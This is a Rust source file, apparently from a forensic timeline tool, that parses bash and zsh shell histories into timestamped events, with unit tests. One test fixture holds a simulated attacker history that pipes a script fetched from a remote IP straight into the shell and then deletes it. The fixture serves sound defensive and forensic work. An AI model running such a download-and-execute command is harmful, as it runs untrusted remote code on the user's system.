//! Shell histories: bash (`HISTTIMEFORMAT` writes a `#EPOCH` line before each command) and
//! zsh's extended format (`: EPOCH:DURATION;command`, continued lines end with `\`).
//!
//! A command without a time of its own (bash without `HISTTIMEFORMAT`) is placed at the last
//! time known before it, or at the file's mtime, and marked `time_inferred`.

use crate::timeline::{dedup_key, Event, Occurrences, Parsed};

fn command_event(t: i64, source: &str, cmd: &str, user: &Option<String>, inferred: bool) -> Event {
    let mut e = Event::new(t, source, "shell_command", cmd.to_string()).attr("command", cmd);
    if inferred {
        e = e.attr("time_inferred", true);
    }
    e.user = user.clone();
    e
}

/// `source` is `bash_history` or `zsh_history`; `user` the history's owner.
pub fn parse(text: &str, source: &str, user: Option<String>, mtime_ns: i64) -> Parsed {
    let mut out = Parsed::default();
    let mut occ = Occurrences::default();
    let mut push = |out: &mut Parsed, t: i64, cmd: &str, stamp: &str, inferred: bool| {
        let mut e = command_event(t, source, cmd, &user, inferred);
        let n = occ.next(&format!("{stamp}\n{cmd}"));
        e.dedup = dedup_key(&[
            source.as_bytes(),
            stamp.as_bytes(),
            cmd.as_bytes(),
            &n.to_le_bytes(),
        ]);
        out.events.push(e);
    };
    let mut pending_time: Option<(i64, String)> = None;
    let mut last_known: Option<i64> = None;
    let mut lines = text.lines().peekable();
    while let Some(line) = lines.next() {
        if line.trim().is_empty() {
            continue;
        }
        // zsh extended: ": 1795946290:0;cmd", possibly continued with a trailing backslash.
        if let Some(rest) = line.strip_prefix(": ") {
            let parsed = rest.split_once(';').and_then(|(meta, cmd)| {
                let secs: i64 = meta.split(':').next()?.trim().parse().ok()?;
                Some((secs, cmd))
            });
            match parsed {
                Some((secs, cmd)) => {
                    let mut cmd = cmd.to_string();
                    while cmd.ends_with('\\') {
                        let Some(next) = lines.next() else { break };
                        cmd.pop();
                        cmd.push('\n');
                        cmd.push_str(next);
                    }
                    let t = secs.saturating_mul(1_000_000_000);
                    last_known = Some(t);
                    push(&mut out, t, &cmd, &secs.to_string(), false);
                }
                None => out.unparsed(
                    last_known.unwrap_or(mtime_ns),
                    source,
                    line,
                    "zsh extended history line without `: EPOCH:DURATION;`",
                ),
            }
            continue;
        }
        // bash: "#1795946290" before the command it dates.
        if let Some(epoch) = line.strip_prefix('#') {
            if let Ok(secs) = epoch.trim().parse::<i64>() {
                pending_time = Some((secs.saturating_mul(1_000_000_000), epoch.trim().to_string()));
                continue;
            }
        }
        match pending_time.take() {
            Some((t, stamp)) => {
                last_known = Some(t);
                push(&mut out, t, line, &stamp, false);
            }
            None => push(&mut out, last_known.unwrap_or(mtime_ns), line, "", true),
        }
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;

    #[test]
    fn bash_with_epochs_and_without() {
        let text = "ls -la\n#1795946290\ncurl -s http://198.51.100.20/x.sh | sh\n#1795946300\nrm -f /tmp/x.sh\n";
        let p = parse(text, "bash_history", Some("alice".into()), 42);
        assert_eq!(p.events.len(), 3);
        assert_eq!(p.events[0].time_ns, 42);
        assert_eq!(p.events[0].attrs["time_inferred"], true);
        assert_eq!(p.events[1].time_ns, 1_795_946_290_000_000_000);
        assert_eq!(
            p.events[1].message,
            "curl -s http://198.51.100.20/x.sh | sh"
        );
        assert_eq!(p.events[1].user.as_deref(), Some("alice"));
        assert_eq!(p.events[2].kind, "shell_command");
        assert!(!p.events[2].attrs.contains_key("time_inferred"));
    }

    #[test]
    fn zsh_extended_with_continuation_and_a_bad_line() {
        let text = ": 1795946290:0;echo one \\\ntwo\n: garbage\n: 1795946299:3;id\n";
        let p = parse(text, "zsh_history", None, 0);
        assert_eq!(p.events[0].message, "echo one \ntwo");
        assert_eq!(p.events[1].kind, "unparsed");
        assert_eq!(p.unparsed, 1);
        assert_eq!(p.events[2].time_ns, 1_795_946_299_000_000_000);
    }
}
